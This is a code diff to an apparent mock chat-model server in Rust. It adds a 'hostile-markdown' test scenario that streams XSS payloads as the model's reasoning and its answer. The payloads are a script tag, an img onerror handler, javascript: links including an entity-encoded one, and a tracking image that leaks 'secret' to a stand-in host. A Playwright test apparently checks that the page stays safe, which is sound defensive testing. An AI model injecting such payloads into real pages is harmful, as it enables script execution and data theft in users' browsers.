@@ -79,6 +79,7 @@ pub const KEYWORDS: &[&str] = &[
     "multibyte",
     "headlines",
     "stall",
+    "hostile-markdown",
     "firehose",
     "paced",
     "stamped",
@@ -108,6 +109,19 @@ pub const HEADLINES: &str = "**Reading the question**\nThe user wants a number w
 Multiplying by 3.28 and rounding.\nLooking again at the rounding.\n\
 **Final check**\nEverything adds up, so I can answer now.\n";
 pub const ANSWER: &str = "Here is the answer: **42**.";
+/// Markdown written to attack the page: raw HTML, script-scheme links (plain,
+/// entity-encoded, autolink), a tracking image, an aligned table (a style
+/// attribute), a footnote label that names an app id, and one safe link.
+/// Sent as both reasoning and answer; a Playwright story checks that none of it
+/// runs, loads or breaks out.
+pub const HOSTILE_MARKDOWN: &str = "Careful <script>window.__pwned = 'script'</script> \
+and <img src=x onerror=\"window.__pwned = 'img'\">.\n\n\
+[plain](javascript:window.__pwned='link') [encoded](&#106;avascript:window.__pwned='entity') \
+<javascript:window.__pwned='autolink'>\n\n\
+![tracker](https://tracker.invalid/pixel.png?leak=secret)\n\n\
+[safe](https://example.com/docs) and a note[^app].\n\n\
+| left | right |\n|:--|--:|\n| 1 | 2 |\n\n\
+[^app]: The note.\n\nEnd.\n";
 
 /// The scenario named by the last `mock:<name>` keyword in `text` (else `normal`).
 pub fn scenario_for(text: &str, delay: Duration) -> Scenario {
@@ -355,6 +369,12 @@ fn build(name: &'static str, number: Option<u64>, delay: Duration) -> Scenario {
             fault = Fault::StallAfter(r.len() / 2);
             r
         }
+        "hostile-markdown" => [
+            reasoning(HOSTILE_MARKDOWN),
+            answer(HOSTILE_MARKDOWN),
+            ending("stop", 40),
+        ]
+        .concat(),
         "headlines" => [
             chunk_text(HEADLINES, 4)
                 .into_iter()
